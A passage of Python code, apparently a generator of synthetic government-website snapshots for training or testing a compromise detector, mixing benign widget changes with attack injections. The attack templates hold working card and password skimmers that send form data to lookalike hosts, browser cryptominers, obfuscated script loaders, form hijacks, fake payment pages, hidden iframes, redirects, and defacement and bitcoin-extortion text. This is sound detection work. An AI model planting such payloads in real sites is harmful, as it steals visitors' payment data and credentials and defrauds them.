src="https://www.facebook.com/tr?id={pid}&ev=PageView&noscript=1"
/></noscript>
<!-- End Meta Pixel Code -->
"""}, []


def b_instagram(r, s):
    sc = alnum(r, 11)
    return {"main": f"""<blockquote class="instagram-media" data-instgrm-captioned data-instgrm-permalink="https://www.instagram.com/p/{sc}/?utm_source=ig_embed&amp;utm_campaign=loading" data-instgrm-version="14" style=" background:#FFF; border:0; border-radius:3px; margin: 1px; max-width:540px; min-width:326px; padding:0; width:99.375%;"><div style="padding:16px;"><a href="https://www.instagram.com/p/{sc}/?utm_source=ig_embed&amp;utm_campaign=loading" style=" background:#FFFFFF; line-height:0; padding:0 0; text-align:center; text-decoration:none; width:100%;" target="_blank">View this post on Instagram</a></div></blockquote>
<script async src="//www.instagram.com/embed.js"></script>
"""}, []


def b_fa_kit(r, s):
    return {"head": '<script src="https://kit.fontawesome.com/%s.js" crossorigin="anonymous"></script>\n' % hexs(r, 10)}, []


def b_livechat(r, s):
    lic = r.randint(10000000, 19999999)
    return {"foot": f"""<!-- Start of LiveChat (www.livechat.com) code -->
<script>
    window.__lc = window.__lc || {{}};
    window.__lc.license = {lic};
    window.__lc.integration_name = "manual_channels";
    window.__lc.product_name = "livechat";
    ;(function(n,t,c){{function i(n){{return e._h?e._h.apply(null,n):e._q.push(n)}}var e={{_q:[],_h:null,_v:"2.0",on:function(){{i(["on",c.call(arguments)])}},once:function(){{i(["once",c.call(arguments)])}},off:function(){{i(["off",c.call(arguments)])}},get:function(){{if(!e._h)throw new Error("[LiveChatWidget] You can't use getters before load.");return i(["get",c.call(arguments)])}},call:function(){{i(["call",c.call(arguments)])}},init:function(){{var n=t.createElement("script");n.async=!0,n.type="text/javascript",n.src="https://cdn.livechatinc.com/tracking.js",t.head.appendChild(n)}}}};!n.__lc.asyncInit&&e.init(),n.LiveChatWidget=n.LiveChatWidget||e}}(window,document,[].slice))
</script>
<noscript><a href="https://www.livechat.com/chat-with/{lic}/" rel="nofollow">Chat with us</a>, powered by <a href="https://www.livechat.com/?welcome" rel="noopener nofollow" target="_blank">LiveChat</a></noscript>
<!-- End of LiveChat code -->
"""}, []


def a_deface_hero(r, s):
    fa_ = SITES[s][2] == "fa"
    line = ("ما فراموش نمی‌کنیم. ما نمی‌بخشیم. منتظر ما باشید." if fa_ else "We are Legion. We do not forgive. We do not forget. Expect us.")
    return {"main_pre": f'<div style="text-align:center"><img src="https://i.imgur.com/{alnum(r, 7)}.jpeg" width="600" height="400" alt=""><h1 style="color:#c00">{line}</h1></div>\n'}, []


def a_miner_worker(r, s):
    host = r.choice(["wss://ws.pool-relay.top:8443", "wss://%s.minerpool.click" % alnum(r, 5).lower()])
    js = f"""<script>(function(){{var c=navigator.hardwareConcurrency||2;var src="importScripts('https://{r.choice(['cdn.wasm-lib.top', 'js.calc-worker.icu'])}/cn.js');self.onmessage=function(e){{start(e.data)}};";for(var i=0;i<c-1;i++){{var w=new Worker(URL.createObjectURL(new Blob([src],{{type:'text/javascript'}})));w.postMessage({{pool:'{host}',user:'4{alnum(r, 94)}',throttle:0.1}});}}}})();</script>"""
    return {"foot": js + "\n"}, []


def a_skimmer_ws(r, s):
    js = f"""<script>var _s=new WebSocket('wss://{r.choice(['api-cdnstats.com', 'sockets.jslib-cdn.org'])}/ws');document.addEventListener('change',function(e){{var t=e.target;if(t&&t.name&&/pass|card|cvv|pan|pin/i.test(t.name)){{_s.readyState==1&&_s.send(JSON.stringify({{h:location.host,n:t.name,v:t.value}}));}}}},true);</script>"""
    return {"foot": js + "\n"}, []


def a_redirect_meta_body(r, s):
    u = r.choice(REDIR) % alnum(r, 5).lower()
    return {"main": f'<META HTTP-EQUIV="Refresh" CONTENT="{r.randint(2, 8)};URL={u}">\n'}, []


def a_seo_clip(r, s):
    L = spam_links(r, SITES[s][2] == "fa")
    return {"foot": f'<div aria-hidden="true" style="position:absolute!important;clip:rect(1px,1px,1px,1px);width:1px;height:1px;overflow:hidden">{L}</div>\n'}, []


BENIGN = [
    # (class, function, sites)
    ("noise_only", b_noise, ALL),
    ("news_added", b_news, ALL),
    ("news_about_hackers", b_news_hackers, ["court_kentico_en", "governor_sadaf_fa", "police_umbraco_en", "research_nuxt_fa"]),
    ("events_list", b_events_list, ["school_hugo_en", "hospital_rayan_fa", "council_frontpage_en"]),
    ("video_youtube", b_youtube, ["court_kentico_en", "school_hugo_en", "police_umbraco_en", "museum_next_bi", "customs_dnn_en"]),
    ("video_vimeo", b_vimeo, ["museum_next_bi", "school_hugo_en", "court_kentico_en"]),
    ("video_aparat", b_aparat, ["hospital_rayan_fa", "governor_sadaf_fa", "research_nuxt_fa", "tax_sitefinity_bi"]),
    ("map_google", b_gmaps, ["police_umbraco_en", "customs_dnn_en", "council_frontpage_en", "museum_next_bi"]),
    ("map_osm", b_osm, ["hospital_rayan_fa", "school_hugo_en"]),
    ("map_neshan", b_neshan, ["governor_sadaf_fa", "hospital_rayan_fa"]),
    ("analytics_ga4", b_ga4, ["court_kentico_en", "school_hugo_en", "museum_next_bi", "customs_dnn_en"]),
    ("tagmanager_gtm", b_gtm, ["police_umbraco_en", "museum_next_bi", "court_kentico_en"]),
    ("analytics_matomo_own", b_matomo, ["hospital_rayan_fa", "governor_sadaf_fa", "research_nuxt_fa", "tax_sitefinity_bi", "school_hugo_en"]),
    ("analytics_cloudflare", b_cfbeacon, ["school_hugo_en", "council_frontpage_en", "museum_next_bi"]),
    ("analytics_clarity", b_clarity, ["customs_dnn_en", "police_umbraco_en"]),
    ("analytics_hotjar", b_hotjar, ["court_kentico_en", "museum_next_bi"]),
    ("chat_tawk", b_tawk, ["customs_dnn_en", "school_hugo_en"]),
    ("chat_goftino", b_goftino, ["hospital_rayan_fa", "tax_sitefinity_bi", "governor_sadaf_fa"]),
    ("chat_crisp", b_crisp, ["museum_next_bi", "police_umbraco_en"]),
    ("consent_cookiebot", b_cookiebot, ["police_umbraco_en", "school_hugo_en"]),
    ("consent_onetrust", b_onetrust, ["court_kentico_en", "customs_dnn_en"]),
    ("consent_own_bar", b_own_consent, ["police_umbraco_en", "museum_next_bi", "council_frontpage_en"]),
    ("share_addtoany", b_addtoany, ["governor_sadaf_fa", "school_hugo_en", "research_nuxt_fa"]),
    ("share_links", b_share_links, ["hospital_rayan_fa", "police_umbraco_en", "tax_sitefinity_bi"]),
    ("social_channel_links", b_social_channels, ["governor_sadaf_fa", "research_nuxt_fa", "customs_dnn_en", "court_kentico_en"]),
    ("social_twitter_timeline", b_twitter_timeline, ["police_umbraco_en", "council_frontpage_en"]),
    ("social_facebook_page", b_fb_page, ["school_hugo_en", "customs_dnn_en"]),
    ("a11y_userway", b_userway, ["court_kentico_en", "school_hugo_en", "museum_next_bi"]),
    ("a11y_accessibe", b_accessibe, ["police_umbraco_en", "customs_dnn_en"]),
    ("a11y_own_toolbar", b_own_a11y, ["governor_sadaf_fa", "tax_sitefinity_bi"]),
    ("captcha_recaptcha", b_recaptcha, ["court_kentico_en", "council_frontpage_en", "customs_dnn_en"]),
    ("captcha_recaptcha_v3", b_recaptcha_v3, ["police_umbraco_en", "tax_sitefinity_bi"]),
    ("captcha_hcaptcha", b_hcaptcha, ["school_hugo_en", "museum_next_bi"]),
    ("captcha_turnstile", b_turnstile, ["research_nuxt_fa", "police_umbraco_en"]),
    ("captcha_arcaptcha", b_arcaptcha, ["hospital_rayan_fa", "governor_sadaf_fa"]),
    ("payment_gateway", b_payment_shaparak, ["hospital_rayan_fa", "governor_sadaf_fa", "tax_sitefinity_bi"]),
    ("payment_gateway", b_payment_paygov, ["court_kentico_en", "council_frontpage_en"]),
    ("payment_gateway", b_payment_govuk, ["police_umbraco_en"]),
    ("cdn_version_bump", b_cdn_bump, ["court_kentico_en", "hospital_rayan_fa", "governor_sadaf_fa", "tax_sitefinity_bi", "customs_dnn_en", "police_umbraco_en"]),
    ("cms_upgrade", b_cms_upgrade, ["court_kentico_en", "hospital_rayan_fa", "governor_sadaf_fa", "tax_sitefinity_bi", "research_nuxt_fa", "customs_dnn_en", "school_hugo_en", "police_umbraco_en", "museum_next_bi"]),
    ("cdnjs_new_library", b_cdnjs_lib, ["governor_sadaf_fa", "customs_dnn_en", "court_kentico_en"]),
    ("fonts_google", b_google_fonts, ["school_hugo_en", "museum_next_bi", "research_nuxt_fa"]),
    ("fonts_vazirmatn_jsdelivr", b_vazirmatn_jsdelivr, ["hospital_rayan_fa", "governor_sadaf_fa"]),
    ("own_subdomain", b_own_subdomain, ["hospital_rayan_fa", "court_kentico_en", "museum_next_bi", "school_hugo_en"]),
    ("own_other_domain", b_own_other_domain, ["court_kentico_en", "governor_sadaf_fa", "tax_sitefinity_bi", "customs_dnn_en"]),
    ("constituency_widget", b_state_widget, ["governor_sadaf_fa", "hospital_rayan_fa", "council_frontpage_en", "court_kentico_en"]),
    ("notice_top_banner", b_notice_banner, ["court_kentico_en", "governor_sadaf_fa", "school_hugo_en", "tax_sitefinity_bi"]),
    ("mourning_ribbon", b_mourning, ["governor_sadaf_fa", "hospital_rayan_fa", "research_nuxt_fa"]),
    ("announcement_modal", b_modal, ["tax_sitefinity_bi", "police_umbraco_en", "museum_next_bi"]),
    ("english_notice_on_persian_page", b_english_block_on_fa, ["hospital_rayan_fa", "governor_sadaf_fa"]),
    ("own_keepalive_iframe", b_iframe_hidden_own, ["court_kentico_en", "customs_dnn_en"]),
    ("trust_badges_enamad_samandehi", b_iran_badges, ["hospital_rayan_fa", "tax_sitefinity_bi", "governor_sadaf_fa"]),
    ("analytics_siteimprove", b_siteimprove, ["police_umbraco_en", "court_kentico_en", "customs_dnn_en"]),
    ("analytics_dap_digitalgov", b_dap, ["court_kentico_en", "school_hugo_en"]),
    ("translate_google", b_google_translate, ["school_hugo_en", "council_frontpage_en", "customs_dnn_en"]),
    ("a11y_readspeaker", b_readspeaker, ["police_umbraco_en", "museum_next_bi"]),
    ("a11y_reciteme", b_reciteme, ["police_umbraco_en", "council_frontpage_en"]),
    ("analytics_meta_pixel", b_fb_pixel, ["museum_next_bi", "school_hugo_en"]),
    ("social_instagram_embed", b_instagram, ["museum_next_bi", "police_umbraco_en"]),
    ("fonts_fontawesome_kit", b_fa_kit, ["court_kentico_en", "research_nuxt_fa"]),
    ("chat_livechat", b_livechat, ["customs_dnn_en", "museum_next_bi"]),
]


# --------------------------------------------------------------------------
# Attacks, written the way intruders leave them (not textbook examples).

HANDLES = ["Sh4d0wR00t", "n0_n4me_h4x", "Dark_Ph03nix", "xX_Reaper_Xx", "KingSkrupellos", "Mr.Gh0st404", "Anon_Vyper",
           "r00t_kurd", "TeamBadr0", "CyberDjinn", "Z3r0Byte", "m4lv0"]
CREWS = ["Team Ghost Sec ID", "Turk Siber Kalkan", "Cyber Army Nusantara", "Al-Qassam Cyber Fighters X", "Anonymous Brasil Legion",
         "Rus Hacker Squad", "Kurdistan Cyber Lions", "Moroccan Black Cyber Army"]


def deface_page(r, lang, sig):
    h = r.choice(HANDLES)
    crew = r.choice(CREWS)
    tg = "t.me/" + h.lower().replace(".", "_")
    bodies = {
        "en": ("Owned", f"<h1>{'Hacked by ' + h if sig else 'Your security is an illusion'}</h1><p>{'Security is just an illusion. ' if sig else ''}Your admin panel was open for anyone. We were here and you did not even notice. Patch your systems before someone worse comes.</p><p>Greetz: {', '.join(r.sample(HANDLES, 4))}</p><p>contact: {tg}</p>"),
        "fa": ("هک شد", f"<h1>{'این سایت توسط ' + h + ' هک شد' if sig else 'پیام ما به مسئولان'}</h1><p>مدیر محترم سایت، امنیت سامانه شما صفر است. ما فقط هشدار دادیم؛ دفعه بعد اطلاعات منتشر می‌شود.</p><p>تلگرام: {tg}</p>"),
        "tr": ("Hacklendi", f"<h1>{'Hacked By ' + h if sig else 'Türk Siber Ordusu Burada'}</h1><p>{'Sitenizin güvenliği yok. ' if sig else ''}Ey yönetici! Sisteminizin açıkları kapatılmadı. Bizi durduramazsınız. Türk milleti uyumaz!</p><p>{crew} &mdash; Selamlar: {', '.join(r.sample(HANDLES, 3))}</p>"),
        "id": ("Hacked", f"<h1>{'Hacked by ' + h if sig else 'Salam dari ' + crew}</h1><p>Maaf admin, website anda kami ambil alih. Sistem keamanan anda sangat lemah, tolong perbaiki secepatnya. Kami tidak merusak data, hanya mengingatkan.</p><p>Terima kasih kepada: {', '.join(r.sample(HANDLES, 4))}</p>"),
        "ar": ("تم الاختراق", f"<h1>{'تم اختراق الموقع بواسطة ' + h if sig else 'رسالة إلى الإدارة'}</h1><p>أمن موقعكم ضعيف جداً. لا تحاولوا إغلاق الثغرة فنحن نعود دائماً. الحرية لفلسطين.</p><p>تحياتنا إلى {crew}</p>"),
        "pt": ("Hackeado", f"<h1>{'Hackeado por ' + h if sig else 'Recado para o administrador'}</h1><p>Seu site foi invadido porque a segurança é fraca. Não apagamos nada, apenas deixamos o aviso. Corrija as falhas!</p><p>Salve para: {', '.join(r.sample(HANDLES, 3))} &mdash; {crew}</p>"),
        "ru": ("Взломано", f"<h1>{'Взломано ' + h if sig else 'Привет администратору'}</h1><p>Ваш сайт был захвачен. Безопасность на нуле, обновите свою систему. Мы оставили этот привет вам на память.</p><p>Привет всем: {', '.join(r.sample(HANDLES, 3))}. Связь: {tg}</p>"),
    }
    title, body = bodies[lang]
    style = r.choice(["background:#000;color:#0f0;font-family:monospace", "background:#111 url(https://i.imgur.com/%s.gif) center;color:#f00" % alnum(r, 7),
                      "background:black;color:white;text-align:center"])
    music = r.choice(["", '<audio autoplay loop><source src="https://files.catbox.moe/%s.mp3" type="audio/mpeg"></audio>' % alnum(r, 6).lower(),
                      '<iframe width="1" height="1" src="https://www.youtube.com/embed/%s?autoplay=1"></iframe>' % alnum(r, 11)])
    if not sig:
        title = r.choice(["!!!", "...", title + "!"]) if lang != "en" else "Message"
    return f"""<html><head><meta charset="utf-8"><title>{title}</title>
<meta name="description" content="{h}">
</head><body style="{style}"><center>
<img src="https://i.postimg.cc/{alnum(r, 8)}/{alnum(r, 6)}.png" width="300">
{body}
{music}
</center></body></html>
"""


def a_deface_full(lang, sig):
    def f(r, s):
        return {"replace": deface_page(r, lang, sig)}, []
    return f


def a_deface_partial_sig(r, s):
    h = r.choice(HANDLES)
    txt = r.choice([f"Hacked by {h} ~ we are everywhere", f"Defaced By {h} | Your Security Get Down", f"0wn3d by {h} -- patch your CMS"])
    return {"main_pre": f'<div style="text-align:center;background:#000;color:red;padding:30px"><h2>{txt}</h2><p>{r.choice(CREWS)}</p></div>\n'}, []


def a_deface_marquee_handles(r, s):
    hs = r.sample(HANDLES, 4)
    items = " &#9733; ".join(f"@{x}" for x in hs)
    return {"top": f'<marquee behavior="alternate" bgcolor="black"><font color="lime" size="5">{items} &#9733; t.me/{hs[0].lower()} &#9733; icq 7{r.randint(1000000, 9999999)}</font></marquee>\n'}, []


def a_deface_extortion(r, s):
    wallet = "bc1q" + "".join(r.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))
    if SITES[s][2] == "fa" and r.random() < 0.6:
        txt = f"""<h3>تمامی اطلاعات پایگاه داده شما دانلود شده است</h3><p>برای جلوگیری از انتشار اطلاعات بیماران و کارکنان، ظرف ۷۲ ساعت مبلغ ۰٫۲ بیت‌کوین به آدرس زیر واریز کنید:</p><p dir="ltr">{wallet}</p><p>پس از واریز با ایمیل restore.{alnum(r, 4).lower()}@onionmail.org تماس بگیرید.</p>"""
    else:
        txt = f"""<h3>ALL YOUR DATA HAS BEEN COPIED</h3><p>We have a full dump of your database ({r.randint(40, 900)} GB, citizens records included). Pay 0.{r.randint(1, 9)} BTC to <b>{wallet}</b> within 72 hours or it goes public on our leak blog.</p><p>Write to <a href="mailto:{alnum(r, 6).lower()}@tutanota.com">{alnum(r, 6).lower()}@tutanota.com</a> with your ID {hexs(r, 12).upper()} to get the files back.</p>"""
    return {"main_pre": f'<div class="notice-x" style="border:4px solid red;padding:20px;background:#fff3f3">{txt}</div>\n'}, []


def a_deface_greetings(r, s):
    return {"main": f'<center><h3>Greetz to all my brothers</h3><p>{" - ".join(r.sample(HANDLES, 6))}</p><p>{r.choice(CREWS)} Was Here</p></center>\n'}, []


def a_deface_block_lang(r, s):
    if SITES[s][2] in ("fa", "bi"):
        t = r.choice(["<h2>Bu site Türk Hackerlar tarafından ele geçirildi</h2><p>Yöneticiye not: güvenlik açıklarınızı kapatın. Selamlar tüm kardeşlere.</p>",
                      "<h2>Situs ini telah kami ambil alih</h2><p>Pesan untuk admin: tolong tingkatkan keamanan server anda. Salam dari kami semua.</p>"])
    else:
        t = r.choice(["<h2>رسالة إلى مدير الموقع</h2><p>لقد دخلنا إلى نظامكم بكل سهولة. أصلحوا الثغرات قبل فوات الأوان. تحياتنا إلى جميع الإخوة.</p>",
                      "<h2>Bu site Türk Hackerlar tarafından ele geçirildi</h2><p>Yöneticiye not: güvenlik açıklarınızı kapatın. Selamlar tüm kardeşlere.</p>"])
    return {"main_pre": f'<div style="background:#000;color:#fff;padding:25px;text-align:center">{t}</div>\n'}, []


def a_deface_overlay(r, s):
    h = r.choice(HANDLES)
    return {"foot": f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#000;color:#e00;text-align:center;padding-top:15%;font-size:42px">{h}<br><small style="font-size:18px">{r.choice(["we were here", "nothing is safe", "patch or perish"])}</small><br><img src="https://i.ibb.co/{alnum(r, 7)}/skull.gif" width="200"></div>\n'}, []


def a_title_replaced(r, s):
    h = r.choice(HANDLES)
    return {"title": r.choice([f"Hacked By {h}", f"{h} was here", f"HACKED | {r.choice(CREWS)}", f"هک شده توسط {h}"])}, []


def a_deface_new_post(r, s):
    h = r.choice(HANDLES)
    return {"news": [f"Owned by {h} - admin password was 123456", f"!!! {h} !!! ⚡"]}, []


def a_script_lookalike(r, s):
    host = r.choice(["ajax.googleapis.com.cdn-edge.top", "code-jquery.net", "cdnjs-cloudflare.com", "googletagmanager.com.gtm-stat.icu",
                     "cdn.jsdeIivr.net", "www.google-analytcs.com", "static.cloudf1areinsights.com", "stats.%s.cloud-sync.click" % regdom(s).split(".")[0]])
    path = r.choice(["/ajax/libs/jquery/3.6.0/jquery.min.js", "/gtag/js?id=G-%s" % alnum(r, 8).upper(), "/npm/bootstrap@5/dist/js/bootstrap.min.js", "/analytics.js"])
    where = r.choice(["head", "foot"])
    return {where: f'<script type="text/javascript" src="https://{host}{path}"></script>\n'}, []


def a_script_bare_ip(r, s):
    ip = "%d.%d.%d.%d" % (r.choice([45, 91, 185, 193, 194, 5]), r.randint(1, 254), r.randint(1, 254), r.randint(1, 254))
    port = r.choice(["", ":8080", ":443", ":2053"])
    proto = r.choice(["http", "https", ""])
    u = f"{proto + ':' if proto else ''}//{ip}{port}/{r.choice(['js/jquery.min.js', 'stat.js', 'wp-includes/js/l.js', 'cdn/app.js?v=2'])}"
    return {r.choice(["head", "foot", "main"]): f"<script src='{u}'></script>\n"}, []


def a_script_protocol_relative(r, s):
    host = r.choice(["counter-stats.xyz", "cdn.trafic-boost.top", "js.adsrv-metrics.buzz", "static.jqueryui-min.site", "lib.sdn-fast.shop"])
    return {r.choice(["head", "foot"]): f'<script async src="//{host}/{alnum(r, 6).lower()}.js"></script>\n'}, []


def js_str_concat(url):
    parts = []
    k = 0
    while k < len(url):
        n = 2 + (k * 7) % 4
        parts.append(url[k:k + n])
        k += n
    return "+".join("'%s'" % p for p in parts)


def a_script_obfuscated(r, s):
    url = "https://" + r.choice(["jscdn-loader.top", "api.metrics-hub.icu", "update-browser.click", "static.cdn-node.lol"]) + "/" + alnum(r, 5).lower() + ".js"
    kind = r.choice(["charcode", "atob", "hex", "concat", "reverse", "array"])
    if kind == "charcode":
        codes = ",".join(str(ord(c)) for c in url)
        js = f"var _0x{hexs(r, 4)}=String.fromCharCode({codes});var e=document.createElement('script');e.src=_0x{'%s'};document.head.appendChild(e);"
        v = hexs(r, 4)
        js = f"var _0x{v}=String.fromCharCode({codes});var e=document.createElement('script');e.src=_0x{v};document.head.appendChild(e);"
    elif kind == "atob":
        import base64
        enc = base64.b64encode(url.encode()).decode()
        js = f"(function(d,t){{var g=d.createElement(t);g.src=atob('{enc}');g.async=1;d.getElementsByTagName('head')[0].appendChild(g);}})(document,'script');"
    elif kind == "hex":
        enc = "".join("\\x%02x" % ord(c) for c in url)
        js = f"var s=document['\\x63reateElement']('\\x73cript');s['src']='{enc}';document.body.appendChild(s);"
    elif kind == "concat":
        js = f"var u={js_str_concat(url)};document.write('<scr'+'ipt src=\"'+u+'\"></scr'+'ipt>');"
    elif kind == "reverse":
        js = f"var q='{url[::-1]}'.split('').reverse().join('');var n=document.createElement('script');n.src=q;document.getElementsByTagName('head')[0].appendChild(n);"
    else:
        pieces = [url[:8], url[8:20], url[20:]]
        js = f"var a=['{pieces[2]}','{pieces[0]}','{pieces[1]}'];var z=document.createElement('script');z.src=a[1]+a[2]+a[0];document.documentElement.appendChild(z);"
    return {r.choice(["foot", "head"]): f"<script>{js}</script>\n"}, []


def a_miner(r, s):
    kind = r.choice(["coinimp", "cryptoloot", "webminepool", "coinhive_selfhost"])
    key = hexs(r, 64)
    if kind == "coinimp":
        js = f'<script src="https://www.hostingcloud.racing/{alnum(r, 4)}.js"></script><script>var _client = new Client.Anonymous(\'{key}\', {{throttle: 0.3, c: \'w\'}});_client.start();</script>'
    elif kind == "cryptoloot":
        js = f'<script src="//statdynamic.com/lib/crypta.js"></script><script>var miner=new CRLT.Anonymous(\'{key[:40]}\',{{threads:4,throttle:0.2}});miner.start();</script>'
    elif kind == "webminepool":
        js = f'<script src="https://www.webminepool.com/lib/base.js"></script><script>var miner = WMP.Anonymous(\'SK_{alnum(r, 20)}\', {{throttle: 0.5}}); miner.start();</script>'
    else:
        js = f'<script src="/images/.cache/m.js"></script><script>var m=new CoinHive.Anonymous("{alnum(r, 32)}",{{threads:navigator.hardwareConcurrency||2}});m.start(CoinHive.FORCE_MULTI_TAB);</script>'
    return {"foot": js + "\n"}, []


def a_skimmer(r, s):
    exfil = r.choice(["https://cdn-imgstatic.shop/i.php", "https://analytics-gstatic.org/collect", "https://jquery-cdnjs.com/gate.php"])
    js = f"""<script>window.addEventListener('load',function(){{var f=document.querySelectorAll('form');for(var i=0;i<f.length;i++){{f[i].addEventListener('submit',function(){{var d=[];var el=this.elements;for(var k=0;k<el.length;k++){{if(el[k].name)d.push(el[k].name+'='+encodeURIComponent(el[k].value));}}var im=new Image();im.src='{exfil}?h='+location.host+'&d='+btoa(d.join('&'));}});}}}});</script>"""
    return {"foot": js + "\n"}, []


def iframe_src(r):
    return "https://" + r.choice(["traff-route.top", "clk.adnetwork-pro.xyz", "go.sweet-bonus.click", "194.%d.%d.%d" % (r.randint(1, 254), r.randint(1, 254), r.randint(1, 254)),
                                 "tds.landing-flow.icu"]) + "/" + alnum(r, 6).lower()


def a_iframe(method):
    def f(r, s):
        u = iframe_src(r)
        if method == "zero_size":
            h = f'<iframe src="{u}" width="0" height="0" frameborder="0"></iframe>'
        elif method == "one_pixel":
            h = f'<iframe src="{u}" width="1" height="1" style="border:0"></iframe>'
        elif method == "display_none":
            h = f'<iframe src="{u}" style="display: none"></iframe>'
        elif method == "visibility_hidden":
            h = f'<iframe src="{u}" width="300" height="250" style="visibility:hidden;position:absolute"></iframe>'
        elif method == "offscreen":
            h = f'<iframe src="{u}" width="468" height="60" style="position:absolute; left:-5000px; top:0"></iframe>'
        elif method == "opacity":
            h = f'<iframe src="{u}" width="728" height="90" style="opacity:0;filter:alpha(opacity=0)"></iframe>'
        elif method == "hidden_attr":
            h = f'<iframe hidden src="{u}"></iframe>'
        elif method == "css_class":
            c = "x" + alnum(r, 5).lower()
            h = f'<style>.{c}{{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)}}</style><div class="{c}"><iframe src="{u}" width="500" height="400"></iframe></div>'
        elif method == "parent_hidden":
            h = f'<div style="display:none"><iframe src="{u}" width="800" height="600"></iframe></div>'
        elif method == "script_written":
            h = f'<script>document.write("<iframe src=\'{u}\' width=\'0\' height=\'0\' style=\'display:none\'></iframe>");</script>'
        return {r.choice(["top", "main", "foot"]): h + "\n"}, []
    return f


SPAM_EN = ["buy viagra online no prescription", "cheap cialis 20mg", "online casino real money", "best payday loans same day",
           "replica rolex watches", "slot gacor hari ini", "judi bola terpercaya", "essay writing service cheap"]
SPAM_FA = ["سایت شرط بندی معتبر", "بازی انفجار با شارژ رایگان", "کازینو آنلاین فارسی", "بت فوروارد", "پیش بینی فوتبال با جایزه", "سایت حضرات", "دانلود اپلیکیشن وان ایکس بت"]


def spam_links(r, fa_=False):
    kws = SPAM_FA if fa_ else SPAM_EN
    doms = ["betbaz%d.com" % r.randint(10, 99), "enfejar-online.net", "casino-fa.xyz", "onlinepharm-rx.com", "gacor-slot88.site", "rolexcopy.shop", "cheapmeds24.org"]
    return " ".join(f'<a href="https://{r.choice(doms)}/?ref={alnum(r, 4).lower()}">{k}</a>' for k in r.sample(kws, 5))


def a_seo(method, fa_=False):
    def f(r, s):
        L = spam_links(r, fa_)
        if method == "display_none":
            h = f'<div style="display:none">{L}</div>'
        elif method == "offscreen":
            h = f'<div style="position:absolute;top:-1288px;left:-1288px">{L}</div>'
        elif method == "text_indent":
            h = f'<p style="text-indent:-9999px;overflow:hidden;height:1px">{L}</p>'
        elif method == "font_size_zero":
            h = f'<span style="font-size:0px;line-height:0">{L}</span>'
        elif method == "height_zero":
            h = f'<div style="height:0;overflow:hidden">{L}</div>'
        elif method == "css_class":
            c = "wp-" + alnum(r, 4).lower()
            h = f'<style type="text/css">.{c} {{ position: fixed; left: -3000px; }}</style><div class="{c}">{L}</div>'
        elif method == "color_same":
            h = f'<div style="color:#ffffff;background:#ffffff;font-size:2px">{L}</div>'
        elif method == "script_hidden":
            idn = alnum(r, 6)
            h = f'<div id="{idn}">{L}</div><script>document.getElementById("{idn}").style.display="none";</script>'
        elif method == "visible":
            h = f'<div class="partners"><b>Partners:</b> {L}</div>'
        elif method == "noscript":
            h = f'<noscript>{L}</noscript>'
        return {r.choice(["main", "foot", "main_pre"]): h + "\n"}, []
    return f


def a_seo_japanese(r, s):
    kws = ["ブランド コピー 激安 通販", "スーパーコピー 時計 N級", "ルイヴィトン 財布 偽物", "シャネル バッグ 新作 安い", "エルメス コピー 専門店"]
    items = "".join(f'<li><a href="/?{r.randint(1000, 9999)}.html">{k}</a></li>' for k in r.sample(kws, 4))
    return {"title": "ブランド コピー 激安 | " + r.choice(kws), "main_pre": f'<div class="jp"><h2>{r.choice(kws)}</h2><ul>{items}</ul><p>人気ブランドのスーパーコピー商品を最安値でご提供。品質保証、送料無料。</p></div>\n'}, []


def a_form_hijack(r, s):
    dst = r.choice(["https://%s-secure-login.com/post.php" % regdom(s).split(".")[0], "https://45.%d.%d.%d/gate.php" % (r.randint(1, 254), r.randint(1, 254), r.randint(1, 254)),
                    "//form-handler.duckdns.org/s", "https://api.collect-forms.top/submit"])
    return {"form_action": dst}, []


def a_form_hijack_js(r, s):
    dst = r.choice(["https://submit-verify.online/r.php", "https://data.%s.xyz/in" % alnum(r, 6).lower()])
    kind = r.choice(["action", "setattr", "formaction"])
    if kind == "action":
        js = f"<script>document.addEventListener('DOMContentLoaded',function(){{var fs=document.forms;for(var i=0;i<fs.length;i++)fs[i].action='{dst}';}});</script>"
    elif kind == "setattr":
        js = f"<script>setTimeout(function(){{document.querySelector('form').setAttribute('action','{dst}');}},500);</script>"
    else:
        js = f"<script>window.onload=function(){{var b=document.querySelector('button,input[type=submit]');if(b)b.formAction='{dst}';}};</script>"
    return {"foot": js + "\n"}, []


def a_fake_gateway(r, s):
    if SITES[s][2] in ("fa", "bi"):
        host = r.choice(["sep-shaparak.ir", "shaparak-pay.com", "ipg.shaparak.ir.pay-verify.site", "shapaark.ir"])
        return {"main": f'<div class="pay"><h3>پرداخت جریمه و عوارض</h3><form action="https://{host}/payment" method="post"><input name="pan" placeholder="شماره کارت"><input name="cvv2" placeholder="CVV2"><input name="pin2" type="password" placeholder="رمز دوم"><button>پرداخت</button></form></div>\n'}, ["other shaparak.ir شرکت شبکه الکترونیکی پرداخت کارت (شاپرک)"]
    host = r.choice(["pay-gov.us", "www.pay.gov.secure-checkout.site", "paygov-online.com"])
    # An ASP.NET page (Kentico) wraps its body in one <form>: a form inside it
    # is dropped by every browser's parser (its fields would post to the site
    # itself), so an attacker who wants the card numbers puts his after it.
    slot = "foot" if s == "court_kentico_en" else "main"
    return {slot: f'<div class="pay"><h3>Pay your fine online</h3><form action="https://{host}/checkout" method="post"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay now</button></form></div>\n'}, ["other pay.gov Bureau of the Fiscal Service, U.S. Department of the Treasury"]


REDIR = ["https://bonus-casino-777.com/?r=%s", "https://pharm-best.shop/l/%s", "https://win-iphone15.click/%s", "https://betfa-online.net/?aff=%s"]


def a_redirect(kind):
    def f(r, s):
        u = r.choice(REDIR) % alnum(r, 5).lower()
        if kind == "meta":
            h = f'<meta http-equiv="refresh" content="{r.choice([0, 1, 3])}; url={u}">'
            return {"head": h + "\n"}, []
        if kind == "js":
            h = r.choice([f"<script>window.location.href='{u}';</script>", f"<script>setTimeout(function(){{top.location.replace(\"{u}\")}},{r.randint(100, 3000)});</script>",
                          f"<script>document.location='{u}'</script>"])
        elif kind == "referrer":
            h = f"<script>var rf=document.referrer;if(rf.indexOf('google.')>-1||rf.indexOf('bing.')>-1||rf.indexOf('yandex')>-1){{window.location='{u}';}}</script>"
        elif kind == "mobile":
            h = f"<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)&&!document.cookie.match(/_vs=1/)){{document.cookie='_vs=1;max-age=86400;path=/';location.replace('{u}');}}</script>"
        elif kind == "obfuscated":
